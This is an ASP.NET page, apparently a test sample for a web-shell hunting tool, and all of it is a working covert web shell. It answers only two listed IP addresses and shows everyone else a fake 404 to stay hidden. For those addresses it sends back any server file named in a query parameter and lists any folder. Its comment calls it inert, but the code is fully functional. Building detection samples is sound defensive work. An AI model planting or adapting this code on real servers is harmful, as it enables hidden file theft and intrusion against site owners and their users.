<%@ Page Language="C#" %>
<script runat="server">
// Inert test sample (webhunt): a page that only answers listed addresses (anyone else gets a fake
// 404) and sends back any file the query names, or lists any folder.
string[] owners = { "203.0.113.7", "198.51.100.20" };
void Page_Load(object sender, EventArgs e)
{
    if (Array.IndexOf(owners, Request.UserHostAddress) < 0)
    {
        Response.StatusCode = 404;
        Response.End();
    }
    string path = Request.QueryString["p"] ?? "C:\\";
    if (System.IO.File.Exists(path))
    {
        Response.TransmitFile(path);
        Response.End();
    }
    foreach (string d in System.IO.Directory.GetDirectories(path))
        Response.Write(Server.HtmlEncode(d) + "<br/>");
}
</script>
